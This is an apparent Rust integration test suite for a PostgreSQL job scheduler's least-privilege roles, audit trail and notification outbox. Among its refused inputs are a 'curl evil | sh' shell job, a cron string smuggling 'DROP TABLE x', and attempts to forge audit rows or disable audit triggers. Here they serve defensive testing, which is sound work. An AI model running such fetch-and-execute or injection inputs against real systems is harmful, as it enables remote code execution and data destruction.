//! Least-privilege roles (SPEC §9), tested by connecting as each one: what it
//! may do succeeds (and is audited under its own name); what it may not do is
//! refused with a clear message and changes nothing.

mod common;

use std::time::Duration;

use common::{scalar, text, wait_for, TestDb};
use crondeck::scheduler::{NodeConfig, NodeHandle};
use serde_json::Value;
use tokio_postgres::error::SqlState;

/// Create a login role for each crondeck role, named after the database.
async fn login_roles(db: &TestDb) -> [String; 4] {
    let client = db.client().await;
    let names = ["viewer", "operator", "admin", "scheduler"].map(|r| format!("{}_{r}", db.name));
    for (login, role) in names
        .iter()
        .zip(["viewer", "operator", "admin", "scheduler"])
    {
        client
            .batch_execute(&format!(
                "CREATE ROLE {login} LOGIN; GRANT crondeck_{role} TO {login};"
            ))
            .await
            .unwrap();
    }
    names
}

async fn snapshot(db: &TestDb) -> (Value, Value, i64) {
    let client = db.client().await;
    let jobs: Option<Value> = scalar(
        &client,
        "SELECT jsonb_agg(to_jsonb(j) ORDER BY id) FROM crondeck.jobs j",
        &[],
    )
    .await;
    let requests: Option<Value> = scalar(
        &client,
        "SELECT jsonb_agg(to_jsonb(r) ORDER BY id) FROM crondeck.run_requests r",
        &[],
    )
    .await;
    let audit: i64 = scalar(&client, "SELECT count(*) FROM crondeck.audit", &[]).await;
    (
        jobs.unwrap_or(Value::Null),
        requests.unwrap_or(Value::Null),
        audit,
    )
}

fn ok_as(db: &TestDb, user: &str, args: &[&str]) -> String {
    let out = db.run_as(user, args);
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{user} {args:?}: {stdout} {stderr}");
    stdout
}

async fn denied_as(db: &TestDb, user: &str, args: &[&str]) {
    let before = snapshot(db).await;
    let out = db.run_as(user, args);
    let (stdout, stderr) = text(&out);
    assert_eq!(
        out.status.code(),
        Some(3),
        "{user} {args:?}: {stdout} {stderr}"
    );
    assert!(
        stderr.contains("permission denied"),
        "{user} {args:?}: {stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
    assert_eq!(
        snapshot(db).await,
        before,
        "{user} {args:?} changed something"
    );
}

async fn sql_denied(db: &TestDb, user: &str, statement: &str) {
    let client = db.spec_as(user).connect().await.unwrap();
    let err = client.batch_execute(statement).await.expect_err(statement);
    assert_eq!(
        err.code(),
        Some(&SqlState::INSUFFICIENT_PRIVILEGE),
        "{user}: {statement}: {err}"
    );
}

async fn seed(db: &TestDb) {
    let out = db.run(&["add", "report", "--every", "1h", "--sql", "SELECT 1"]);
    assert!(out.status.success(), "{:?}", text(&out));
}

const WRITES: &[&str] = &[
    "UPDATE crondeck.jobs SET command = 'SELECT pg_terminate_backend(1)'",
    "UPDATE crondeck.jobs SET active = false",
    "INSERT INTO crondeck.run_requests (job_id, trigger, requested_by) SELECT id, 'manual', 'x' FROM crondeck.jobs",
    "INSERT INTO crondeck.audit (job_name, action) VALUES ('x', 'forged')",
    "DELETE FROM crondeck.runs",
];

#[tokio::test]
async fn a_viewer_reads_everything_and_changes_nothing() {
    let db = TestDb::new().await;
    seed(&db).await;
    let [viewer, ..] = login_roles(&db).await;
    assert!(ok_as(&db, &viewer, &["list"]).contains("report"));
    ok_as(&db, &viewer, &["show", "report"]);
    ok_as(&db, &viewer, &["history", "report"]);
    ok_as(&db, &viewer, &["audit"]);
    for args in [
        vec!["pause", "report"],
        vec!["run", "report"],
        vec!["set", "report", "--priority", "1"],
        vec!["set", "report", "--every", "5m"],
        vec!["add", "x", "--every", "5m", "--sql", "SELECT 1"],
        vec!["remove", "report"],
    ] {
        denied_as(&db, &viewer, &args).await;
    }
    for statement in WRITES {
        sql_denied(&db, &viewer, statement).await;
    }
    sql_denied(&db, &viewer, "SELECT crondeck.trigger('report')").await;
}

#[tokio::test]
async fn an_operator_pauses_resumes_runs_and_reschedules_through_audited_functions_only() {
    let db = TestDb::new().await;
    seed(&db).await;
    let [_, operator, ..] = login_roles(&db).await;
    ok_as(
        &db,
        &operator,
        &["pause", "report", "--reason", "incident 42", "--for", "1h"],
    );
    ok_as(&db, &operator, &["resume", "report"]);
    ok_as(&db, &operator, &["run", "report"]);
    ok_as(
        &db,
        &operator,
        &["set", "report", "--every", "30m", "--priority", "2"],
    );
    ok_as(&db, &operator, &["set", "report", "--next", "+10m"]);
    ok_as(
        &db,
        &operator,
        &[
            "set",
            "report",
            "--cron",
            "0 9 * * MON",
            "--tz",
            "Europe/Paris",
        ],
    );
    let client = db.client().await;
    let rows = client
        .query("SELECT action, db_role::text, reason FROM crondeck.audit WHERE db_role = $1 ORDER BY id", &[&operator])
        .await
        .unwrap();
    let actions: Vec<String> = rows.iter().map(|r| r.get(0)).collect();
    assert_eq!(
        actions,
        [
            "pause",
            "resume",
            "run",
            "reschedule",
            "set-priority",
            "set-nextcall",
            "reschedule"
        ]
    );
    assert_eq!(
        rows[0].get::<_, Option<String>>(2).as_deref(),
        Some("incident 42")
    );
    // What a job executes is not the operator's to change, nor its definition.
    denied_as(&db, &operator, &["set", "report", "--timeout", "1h"]).await;
    denied_as(
        &db,
        &operator,
        &["add", "x", "--every", "5m", "--shell", "curl evil | sh"],
    )
    .await;
    denied_as(&db, &operator, &["remove", "report"]).await;
    for statement in WRITES {
        sql_denied(&db, &operator, statement).await;
    }
    // The functions check their input too, for a caller bypassing the CLI.
    let conn = db.spec_as(&operator).connect().await.unwrap();
    let err = conn
        .execute(
            "SELECT crondeck.op_reschedule('report', 'cron', NULL, NULL, '0 9 * * *; DROP TABLE x', 'UTC', now(), 'u', 'h')",
            &[],
        )
        .await
        .expect_err("garbage cron");
    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
    let err = conn
        .execute(
            "SELECT crondeck.op_set_priority('report', -1, 'u', 'h')",
            &[],
        )
        .await
        .expect_err("negative priority");
    assert_eq!(err.code(), Some(&SqlState::INVALID_PARAMETER_VALUE));
}

#[tokio::test]
async fn an_admin_defines_jobs() {
    let db = TestDb::new().await;
    let [_, _, admin, _] = login_roles(&db).await;
    ok_as(
        &db,
        &admin,
        &["add", "nightly", "--every", "1d", "--shell", "true"],
    );
    ok_as(&db, &admin, &["set", "nightly", "--timeout", "1h"]);
    ok_as(&db, &admin, &["pause", "nightly"]);
    ok_as(&db, &admin, &["remove", "nightly"]);
    let client = db.client().await;
    let roles: Vec<String> = client
        .query("SELECT DISTINCT db_role::text FROM crondeck.audit", &[])
        .await
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert_eq!(roles, std::slice::from_ref(&admin));
    // Even an admin cannot rewrite history.
    sql_denied(&db, &admin, "DELETE FROM crondeck.audit").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_scheduler_claims_and_records_runs_but_cannot_change_definitions() {
    let db = TestDb::new().await;
    let out = db.run(&["add", "tick", "--every", "1s", "--sql", "SELECT 1"]);
    assert!(out.status.success());
    let out = db.run(&["add", "poison", "--every", "1s", "--sql", "SELECT 1/0"]);
    assert!(out.status.success());
    let [.., scheduler] = login_roles(&db).await;
    let client = db.client().await;
    client
        .execute("UPDATE crondeck.jobs SET failure_threshold = 2, failure_min_age_ms = 0 WHERE name = 'poison'", &[])
        .await
        .unwrap();
    let node = NodeHandle::start(
        db.spec_as(&scheduler),
        NodeConfig {
            name: "restricted".into(),
            ..NodeConfig::default()
        },
    )
    .await
    .expect("a scheduler role can register a node");
    wait_for(
        Duration::from_secs(15),
        "runs recorded and the poison job auto-paused",
        || async {
            let ok: i64 = scalar(
                &client,
                "SELECT count(*) FROM crondeck.runs WHERE status = 'succeeded'",
                &[],
            )
            .await;
            let paused: bool = scalar(
                &client,
                "SELECT NOT active FROM crondeck.jobs WHERE name = 'poison'",
                &[],
            )
            .await;
            (ok >= 2 && paused).then_some(())
        },
    )
    .await;
    node.shutdown().await.unwrap();
    // Claims and finishes are runtime: "tick" ran several times and its
    // only audit row is its creation; the auto-pause is audited under the
    // scheduler's login.
    let tick_rows: Vec<String> = client
        .query(
            "SELECT action FROM crondeck.audit WHERE job_name = 'tick' ORDER BY id",
            &[],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert_eq!(tick_rows, ["create"]);
    let paused = client
        .query(
            "SELECT db_role::text, reason FROM crondeck.audit
             WHERE job_name = 'poison' AND action = 'auto-pause'",
            &[],
        )
        .await
        .unwrap();
    assert_eq!(paused.len(), 1);
    assert_eq!(paused[0].get::<_, String>(0), scheduler);
    assert!(paused[0]
        .get::<_, Option<String>>(1)
        .is_some_and(|r| r.contains("consecutive failures")));
    sql_denied(
        &db,
        &scheduler,
        "UPDATE crondeck.jobs SET command = 'SELECT 2'",
    )
    .await;
    sql_denied(
        &db,
        &scheduler,
        "UPDATE crondeck.jobs SET run_as = 'postgres'",
    )
    .await;
    sql_denied(&db, &scheduler, "DELETE FROM crondeck.jobs").await;
}

/// A plain application login that holds only `crondeck_trigger` fires jobs
/// from its own table trigger; an unknown or paused job never makes the
/// application's INSERT fail.
#[tokio::test]
async fn an_application_role_triggers_jobs_from_a_table_trigger_without_ever_failing() {
    let db = TestDb::new().await;
    for args in [
        ["add", "sync", "--manual", "--sql", "SELECT 1"],
        ["add", "sleepy", "--manual", "--sql", "SELECT 1"],
    ] {
        let out = db.run(&args);
        assert!(out.status.success(), "{:?}", text(&out));
    }
    let out = db.run(&["pause", "sleepy", "--reason", "maintenance"]);
    assert!(out.status.success(), "{:?}", text(&out));
    let app = format!("{}_app", db.name);
    let client = db.client().await;
    client
        .batch_execute(&format!(
            "CREATE ROLE {app} LOGIN;
             GRANT crondeck_trigger TO {app};
             CREATE TABLE public.orders (id serial PRIMARY KEY, job text NOT NULL);
             GRANT INSERT, SELECT ON public.orders TO {app};
             GRANT USAGE ON SEQUENCE public.orders_id_seq TO {app};
             CREATE FUNCTION public.orders_changed() RETURNS trigger LANGUAGE plpgsql AS $$
             BEGIN
                 PERFORM crondeck.trigger(NEW.job);
                 RETURN NULL;
             END $$;
             CREATE TRIGGER orders_changed AFTER INSERT ON public.orders
                 FOR EACH ROW EXECUTE FUNCTION public.orders_changed();"
        ))
        .await
        .unwrap();
    let conn = db.spec_as(&app).connect().await.unwrap();
    for job in ["sync", "no-such-job", "sleepy"] {
        conn.execute("INSERT INTO public.orders (job) VALUES ($1)", &[&job])
            .await
            .unwrap_or_else(|e| panic!("the application's INSERT naming {job} failed: {e}"));
    }
    let inserted: i64 = scalar(&client, "SELECT count(*) FROM public.orders", &[]).await;
    assert_eq!(inserted, 3, "every application row is there");
    // Known job: one pending event request, made by the application's role.
    let requests = client
        .query(
            "SELECT j.name, r.trigger, r.requested_by, r.state FROM crondeck.run_requests r
             JOIN crondeck.jobs j ON j.id = r.job_id ORDER BY r.id",
            &[],
        )
        .await
        .unwrap();
    let requests: Vec<(String, String, String, String)> = requests
        .iter()
        .map(|r| (r.get(0), r.get(1), r.get(2), r.get(3)))
        .collect();
    assert_eq!(
        requests,
        [(
            "sync".to_string(),
            "event".to_string(),
            app.clone(),
            "pending".to_string()
        )]
    );
    // Paused job: no request, a skipped run with reason "paused" in history.
    let skipped = client
        .query(
            "SELECT r.trigger, r.status, r.reason, r.requested_by FROM crondeck.runs r
             JOIN crondeck.jobs j ON j.id = r.job_id WHERE j.name = 'sleepy'",
            &[],
        )
        .await
        .unwrap();
    assert_eq!(skipped.len(), 1);
    assert_eq!(
        (
            skipped[0].get::<_, String>(0),
            skipped[0].get::<_, String>(1),
            skipped[0].get::<_, Option<String>>(2),
            skipped[0].get::<_, Option<String>>(3),
        ),
        (
            "event".to_string(),
            "skipped".to_string(),
            Some("paused".to_string()),
            Some(app.clone())
        )
    );
    let history = db.run(&["history", "sleepy"]);
    assert!(history.status.success());
    assert!(text(&history).0.contains("paused"), "{:?}", text(&history));
    // The direct call says what happened.
    let results: Vec<bool> = {
        let mut results = Vec::new();
        for job in ["sync", "no-such-job", "sleepy"] {
            results.push(scalar(&conn, "SELECT crondeck.trigger($1)", &[&job]).await);
        }
        results
    };
    assert_eq!(results, [true, false, false]);
    // A role without the grant still cannot request runs.
    let [viewer, ..] = login_roles(&db).await;
    sql_denied(&db, &viewer, "SELECT crondeck.trigger('sync')").await;
}

/// `check` run by a viewer or an operator records and sends the no-live-node
/// alert; neither can forge, close or pre-empt notifications by writing the
/// table, nor record a no-live-node episode while a node is alive.
#[tokio::test]
async fn viewers_and_operators_send_the_no_live_node_alert_but_cannot_forge_or_suppress_notifications(
) {
    let db = TestDb::new().await;
    let [viewer, operator, ..] = login_roles(&db).await;
    let dir = tempfile::tempdir().unwrap();
    let pages = dir.path().join("pages.jsonl");
    let config = dir.path().join("config.toml");
    std::fs::write(
        &config,
        format!(
            "[[notifications.channel]]\nname = \"pager\"\ncommand = \"cat >> '{}'; echo >> '{}'\"\n",
            pages.display(),
            pages.display()
        ),
    )
    .unwrap();
    let config = config.to_str().unwrap();
    let page_count = || {
        std::fs::read_to_string(&pages)
            .map(|p| p.lines().filter(|l| !l.trim().is_empty()).count())
            .unwrap_or(0)
    };
    let out = db.run_as(&viewer, &["--config", config, "check"]);
    assert_eq!(out.status.code(), Some(2), "{:?}", text(&out));
    assert!(!text(&out).1.contains("could not"), "{:?}", text(&out));
    // `check` records; its background process (as the viewer) delivers.
    let client = db.client().await;
    let delivered = |n: i64| {
        let client = &client;
        move || async move {
            let done: i64 = scalar(
                client,
                "SELECT count(*) FROM crondeck.notification_deliveries WHERE status = 'delivered'",
                &[],
            )
            .await;
            (done == n).then_some(())
        }
    };
    wait_for(
        Duration::from_secs(30),
        "the viewer's page delivered",
        delivered(1),
    )
    .await;
    assert_eq!(page_count(), 1, "the viewer's check sent the alert");
    let out = db.run_as(&viewer, &["--config", config, "check"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(page_count(), 1, "once per episode");
    let status: String = scalar(
        &client,
        "SELECT status FROM crondeck.notifications WHERE event = 'no_live_node'",
        &[],
    )
    .await;
    assert_eq!(status, "sent");
    // A new episode (a node came and went), seen by an operator.
    client
        .batch_execute(
            "INSERT INTO crondeck.nodes (id, name, host, pid, version, workers, lease_ms, heartbeat_ms,
                 heartbeat_at)
             VALUES ('gone', 'gone', 'h', 1, 't', 1, 1000, 100, now() - interval '1 hour')",
        )
        .await
        .unwrap();
    let out = db.run_as(&operator, &["--config", config, "check"]);
    assert_eq!(out.status.code(), Some(2), "{:?}", text(&out));
    assert!(!text(&out).1.contains("could not"), "{:?}", text(&out));
    wait_for(
        Duration::from_secs(30),
        "the operator's page delivered",
        delivered(2),
    )
    .await;
    assert_eq!(page_count(), 2, "the operator's check sent the new episode");
    let page: Value = serde_json::from_str(
        std::fs::read_to_string(&pages)
            .unwrap()
            .lines()
            .rfind(|l| !l.trim().is_empty())
            .unwrap(),
    )
    .unwrap();
    assert_eq!(page["event"], "no_live_node");
    assert!(page["text"]
        .as_str()
        .unwrap()
        .contains("no live scheduler node"));
    // Forging, closing, pre-empting: refused.
    for user in [&viewer, &operator] {
        for statement in [
            "INSERT INTO crondeck.notifications (dedup_key, event, message, payload, created_by)
             VALUES ('failure_streak/1/x', 'failure_streak', 'forged', '{}', 'x')",
            "UPDATE crondeck.notifications SET resolved_at = now(), status = 'sent'",
            "DELETE FROM crondeck.notifications",
            // The outbox: only nodes claim and report other deliveries.
            "UPDATE crondeck.notification_deliveries SET status = 'delivered'",
            "SELECT * FROM crondeck.outbox_claim('x', ARRAY['pager'], 60000, 10)",
            "SELECT crondeck.outbox_finish(1, 'x', 1, NULL)",
        ] {
            sql_denied(&db, user, statement).await;
        }
    }
    // With a live node, there is no episode to record, whatever the caller says.
    client
        .batch_execute(
            "INSERT INTO crondeck.nodes (id, name, host, pid, version, workers, lease_ms, heartbeat_ms)
             VALUES ('alive', 'alive', 'h', 1, 't', 1, 600000, 5000)",
        )
        .await
        .unwrap();
    let before: i64 = scalar(&client, "SELECT count(*) FROM crondeck.notifications", &[]).await;
    let conn = db.spec_as(&operator).connect().await.unwrap();
    let rows = conn
        .query(
            "SELECT * FROM crondeck.record_no_live_node('forger', '[]')",
            &[],
        )
        .await
        .unwrap();
    assert!(rows.is_empty());
    let after: i64 = scalar(&client, "SELECT count(*) FROM crondeck.notifications", &[]).await;
    assert_eq!(before, after);
}

/// Audit rows are written by the database: nobody may insert them, an
/// admin's direct write to a job is audited under the admin's own login
/// whatever the client claims, and the crondeck roles own nothing, so they
/// cannot disable the triggers.
#[tokio::test]
async fn the_audit_cannot_be_forged_or_bypassed() {
    let db = TestDb::new().await;
    seed(&db).await;
    let logins = login_roles(&db).await;
    let [_, _, admin, _] = &logins;
    for user in &logins {
        sql_denied(
            &db,
            user,
            "INSERT INTO crondeck.audit (at, db_role, os_user, job_name, action)
             VALUES ('2001-01-01', 'alice', 'alice', 'report', 'remove')",
        )
        .await;
    }
    let client = db.client().await;
    let before: i64 = scalar(&client, "SELECT count(*) FROM crondeck.audit", &[]).await;
    // A direct UPDATE by an admin, with a forged client context.
    let mut conn = db.spec_as(admin).connect().await.unwrap();
    let tx = conn.transaction().await.unwrap();
    let started: chrono::DateTime<chrono::Utc> =
        tx.query_one("SELECT now()", &[]).await.unwrap().get(0);
    tx.batch_execute(
        "SELECT crondeck.audit_context('alice', 'elsewhere', 'routine', 'resume');
         SET LOCAL crondeck.context = 'scheduler';
         UPDATE crondeck.jobs SET command = 'SELECT pg_sleep(1)' WHERE name = 'report';",
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    let rows = client
        .query(
            "SELECT db_role::text, action, old_value, new_value, at FROM crondeck.audit
             WHERE id > (SELECT max(id) - 1 FROM crondeck.audit)",
            &[],
        )
        .await
        .unwrap();
    let after: i64 = scalar(&client, "SELECT count(*) FROM crondeck.audit", &[]).await;
    assert_eq!(after, before + 1, "the direct write is audited, once");
    let row = &rows[0];
    assert_eq!(
        row.get::<_, String>(0),
        *admin,
        "the login role, not the claim"
    );
    assert_eq!(
        row.get::<_, String>(1),
        "update",
        "the action is what happened"
    );
    assert_eq!(row.get::<_, Value>(2)["command"], "SELECT 1");
    assert_eq!(row.get::<_, Value>(3)["command"], "SELECT pg_sleep(1)");
    assert_eq!(row.get::<_, chrono::DateTime<chrono::Utc>>(4), started);
    // Saying "I am the scheduler" does not hide a move of the next run.
    let conn = db.spec_as(admin).connect().await.unwrap();
    conn.batch_execute(
        "SET crondeck.context = 'scheduler';
         UPDATE crondeck.jobs SET nextcall = nextcall + interval '1 day' WHERE name = 'report';",
    )
    .await
    .unwrap();
    let action: String = scalar(
        &client,
        "SELECT action FROM crondeck.audit ORDER BY id DESC LIMIT 1",
        &[],
    )
    .await;
    assert_eq!(action, "set-nextcall");
    // Nor does removing the trail's source: the triggers stay.
    for statement in [
        "ALTER TABLE crondeck.jobs DISABLE TRIGGER jobs_audit_update",
        "ALTER TABLE crondeck.jobs DISABLE TRIGGER ALL",
        "DROP TRIGGER jobs_audit_insert_delete ON crondeck.jobs",
        "ALTER TABLE crondeck.audit OWNER TO crondeck_admin",
    ] {
        let err = conn.batch_execute(statement).await.expect_err(statement);
        assert_eq!(
            err.code(),
            Some(&SqlState::INSUFFICIENT_PRIVILEGE),
            "{statement}: {err}"
        );
    }
    let owned: i64 = scalar(
        &client,
        "SELECT count(*) FROM pg_class
         WHERE relnamespace = 'crondeck'::regnamespace
           AND pg_get_userbyid(relowner) LIKE 'crondeck\\_%'",
        &[],
    )
    .await;
    assert_eq!(owned, 0, "no crondeck role owns a table");
}

/// An operator cannot store a value the binary cannot read (and so stop
/// scheduling or blind the readers): infinite times, huge intervals, zones
/// and cron text chrono-tz and croner refuse.
#[tokio::test]
async fn an_operator_cannot_store_what_the_scheduler_cannot_read() {
    let db = TestDb::new().await;
    seed(&db).await;
    let [viewer, operator, ..] = login_roles(&db).await;
    let before = snapshot(&db).await;
    let conn = db.spec_as(&operator).connect().await.unwrap();
    for statement in [
        "SELECT crondeck.op_set_nextcall('report', 'infinity', 'u', 'h')",
        "SELECT crondeck.op_set_nextcall('report', '200000-01-01', 'u', 'h')",
        "SELECT crondeck.op_reschedule('report', 'every', 2147483647, 'months', NULL, NULL, now() + interval '1 hour', 'u', 'h')",
        "SELECT crondeck.op_reschedule('report', 'every', 24856, 'days', NULL, NULL, now() + interval '1 hour', 'u', 'h')",
        "SELECT crondeck.op_reschedule('report', 'every', 1, 'hours', NULL, NULL, 'infinity', 'u', 'h')",
        "SELECT crondeck.op_reschedule('report', 'every', 1, 'hours', NULL, NULL, '-infinity', 'u', 'h')",
        "SELECT crondeck.op_reschedule('report', 'cron', NULL, NULL, '0 9 * * *', 'posixrules', now() + interval '1 hour', 'u', 'h')",
        "SELECT crondeck.op_reschedule('report', 'cron', NULL, NULL, '0 9 * * *', 'right/UTC', now() + interval '1 hour', 'u', 'h')",
        "SELECT crondeck.op_reschedule('report', 'cron', NULL, NULL, '0 9 * * *', 'UTC+3', now() + interval '1 hour', 'u', 'h')",
        "SELECT crondeck.op_reschedule('report', 'cron', NULL, NULL, '0 9 * * * * *', 'UTC', now() + interval '1 hour', 'u', 'h')",
        "SELECT crondeck.op_reschedule('report', 'cron', NULL, NULL, '@reboot', 'UTC', now() + interval '1 hour', 'u', 'h')",
        "SELECT crondeck.op_pause('report', 'x', 1e300, 'u', 'h')",
        "SELECT crondeck.op_pause('report', 'x', 'NaN', 'u', 'h')",
    ] {
        let err = conn.batch_execute(statement).await.expect_err(statement);
        assert!(
            [SqlState::INVALID_PARAMETER_VALUE, SqlState::CHECK_VIOLATION]
                .contains(err.code().unwrap_or(&SqlState::INTERNAL_ERROR)),
            "{statement}: {err:?}"
        );
    }
    assert_eq!(snapshot(&db).await, before, "nothing was stored");
    // And an admin's direct writes meet the same checks.
    let client = db.client().await;
    client
        .batch_execute(&format!(
            "CREATE ROLE {0}_admin2 LOGIN; GRANT crondeck_admin TO {0}_admin2;",
            db.name
        ))
        .await
        .unwrap();
    let admin = db
        .spec_as(&format!("{}_admin2", db.name))
        .connect()
        .await
        .unwrap();
    for statement in [
        "UPDATE crondeck.jobs SET nextcall = 'infinity'",
        "UPDATE crondeck.jobs SET interval_count = 2147483647, interval_unit = 'months'",
        "UPDATE crondeck.jobs SET schedule_kind = 'cron', interval_count = NULL, interval_unit = NULL, cron_expr = '0 9 * * *', cron_tz = 'Factory'",
        "UPDATE crondeck.jobs SET paused_until = '-infinity'",
    ] {
        let err = admin.batch_execute(statement).await.expect_err(statement);
        assert_eq!(
            err.code(),
            Some(&SqlState::CHECK_VIOLATION),
            "{statement}: {err:?}"
        );
    }
    assert!(ok_as(&db, &viewer, &["list"]).contains("report"));
}

/// Two crondeck databases on one cluster: the default one grants the
/// shared crondeck_* roles; one switched to its own roles grants only
/// those. An admin of one is nobody in the other.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn databases_sharing_a_cluster_stay_separate_with_their_own_roles() {
    let shared = TestDb::new().await;
    let own = TestDb::new().await;
    let prefix = own.name.clone();
    let out = own.run(&["migrate", "--role-prefix", &prefix]);
    assert!(out.status.success(), "{:?}", text(&out));
    assert!(text(&out).0.contains(&format!("{prefix}_admin")));
    let client = shared.client().await;
    let shared_admin = format!("{}_admin", shared.name);
    let own_admin = format!("{prefix}_x_admin");
    let own_scheduler = format!("{prefix}_x_scheduler");
    client
        .batch_execute(&format!(
            "CREATE ROLE {shared_admin} LOGIN; GRANT crondeck_admin TO {shared_admin};
             CREATE ROLE {own_admin} LOGIN; GRANT {prefix}_admin TO {own_admin};
             CREATE ROLE {own_scheduler} LOGIN; GRANT {prefix}_scheduler TO {own_scheduler};"
        ))
        .await
        .unwrap();
    let add = ["add", "tick", "--every", "1s", "--sql", "SELECT 1"];
    ok_as(&shared, &shared_admin, &add);
    ok_as(&own, &own_admin, &add);
    // crondeck_admin is nobody in the database with its own roles, and the
    // other way round.
    for (db, user) in [(&own, &shared_admin), (&shared, &own_admin)] {
        let out = db.run_as(user, &["add", "x", "--every", "5m", "--sql", "SELECT 1"]);
        let (stdout, stderr) = text(&out);
        assert!(!out.status.success(), "{user}: {stdout} {stderr}");
        assert!(stderr.contains("permission denied"), "{user}: {stderr}");
        let conn = db.spec_as(user).connect().await.unwrap();
        let err = conn
            .batch_execute("UPDATE crondeck.jobs SET command = 'SELECT 2'")
            .await
            .expect_err("a write from the other database's admin");
        assert_eq!(err.code(), Some(&SqlState::INSUFFICIENT_PRIVILEGE));
    }
    // The database's own scheduler role runs it, and its ticks stay runtime.
    let own_client = own.client().await;
    let node = NodeHandle::start(
        own.spec_as(&own_scheduler),
        NodeConfig {
            name: "own".into(),
            ..NodeConfig::default()
        },
    )
    .await
    .expect("the database's own scheduler role registers a node");
    wait_for(Duration::from_secs(15), "two runs", || async {
        let ok: i64 = scalar(
            &own_client,
            "SELECT count(*) FROM crondeck.runs WHERE status = 'succeeded'",
            &[],
        )
        .await;
        (ok >= 2).then_some(())
    })
    .await;
    node.shutdown().await.unwrap();
    let audited: i64 = scalar(
        &own_client,
        "SELECT count(*) FROM crondeck.audit WHERE job_name = 'tick'",
        &[],
    )
    .await;
    assert_eq!(audited, 1, "only the creation");
    // No privilege in that database is left with the shared roles.
    let left: i64 = scalar(
        &own_client,
        "SELECT count(*) FROM pg_class c, aclexplode(c.relacl) a
         WHERE c.relnamespace = 'crondeck'::regnamespace
           AND pg_get_userbyid(a.grantee) IN ('crondeck_viewer', 'crondeck_operator',
               'crondeck_admin', 'crondeck_scheduler', 'crondeck_trigger')",
        &[],
    )
    .await;
    assert_eq!(left, 0);
    // Nor on the SQL jobs' wrappers' schema (migration 12), which the
    // database's own scheduler used above to make crondeck_job's wrapper.
    let schema_grants: Vec<String> = own_client
        .query(
            "SELECT pg_get_userbyid(a.grantee)::text FROM pg_namespace n, aclexplode(n.nspacl) a
             WHERE n.nspname = 'crondeck_exec' AND a.grantee <> n.nspowner",
            &[],
        )
        .await
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    assert!(!schema_grants.is_empty());
    assert!(
        schema_grants
            .iter()
            .all(|g| *g == format!("{prefix}_scheduler")),
        "{schema_grants:?}"
    );
}

/// A reader may deliver the no-live-node page (`check`'s background
/// process), and nothing else: it cannot claim or report a job's delivery,
/// and cannot hold the page back with a lease of weeks.
#[tokio::test]
async fn a_reader_cannot_hold_back_or_take_over_notification_deliveries() {
    let db = TestDb::new().await;
    let [viewer, ..] = login_roles(&db).await;
    let client = db.client().await;
    client
        .batch_execute(
            "SELECT * FROM crondeck.record_no_live_node('t',
                 '[{\"channel\": \"pager\", \"kind\": \"command\", \"max_attempts\": 3}]');
             INSERT INTO crondeck.notifications (dedup_key, event, message, payload, created_by)
             VALUES ('failure_streak/1/x', 'failure_streak', 'm', '{}', 'n');
             INSERT INTO crondeck.notification_deliveries (notification_id, channel, kind, max_attempts)
             SELECT id, 'pager', 'command', 3 FROM crondeck.notifications
             WHERE event = 'failure_streak';",
        )
        .await
        .unwrap();
    let conn = db.spec_as(&viewer).connect().await.unwrap();
    let claimed = conn
        .query(
            "SELECT event, delivery_id, attempt FROM crondeck.outbox_claim_no_live_node(
                 'attacker', ARRAY['pager'], 2000000000, 100)",
            &[],
        )
        .await
        .unwrap();
    let events: Vec<String> = claimed.iter().map(|r| r.get(0)).collect();
    assert_eq!(events, ["no_live_node"]);
    let lease: f64 = scalar(
        &client,
        "SELECT extract(epoch FROM max(lease_until) - now())::float8
         FROM crondeck.notification_deliveries",
        &[],
    )
    .await;
    assert!(lease <= 601.0, "a lease of {lease} s");
    let job_delivery: i64 = scalar(
        &client,
        "SELECT d.id FROM crondeck.notification_deliveries d
         JOIN crondeck.notifications n ON n.id = d.notification_id
         WHERE n.event = 'failure_streak'",
        &[],
    )
    .await;
    // Claim the job's delivery as a node would, then try to report it
    // delivered as the reader, with the node's own claim.
    client
        .batch_execute("SELECT * FROM crondeck.outbox_claim('node', ARRAY['pager'], 60000, 10)")
        .await
        .unwrap();
    for claimer in ["node", "attacker"] {
        let reported: bool = conn
            .query_one(
                "SELECT crondeck.outbox_finish_no_live_node($1, $2, 1, NULL)",
                &[&job_delivery, &claimer],
            )
            .await
            .unwrap()
            .get(0);
        assert!(!reported, "{claimer}");
    }
    let status: String = scalar(
        &client,
        "SELECT status FROM crondeck.notification_deliveries WHERE id = $1",
        &[&job_delivery],
    )
    .await;
    assert_eq!(status, "pending");
    // The reader's own claim of the page it may deliver: reported.
    let (page, attempt): (i64, i32) = (claimed[0].get(1), claimed[0].get(2));
    let reported: bool = conn
        .query_one(
            "SELECT crondeck.outbox_finish_no_live_node($1, 'attacker', $2, NULL)",
            &[&page, &attempt],
        )
        .await
        .unwrap()
        .get(0);
    assert!(reported);
}
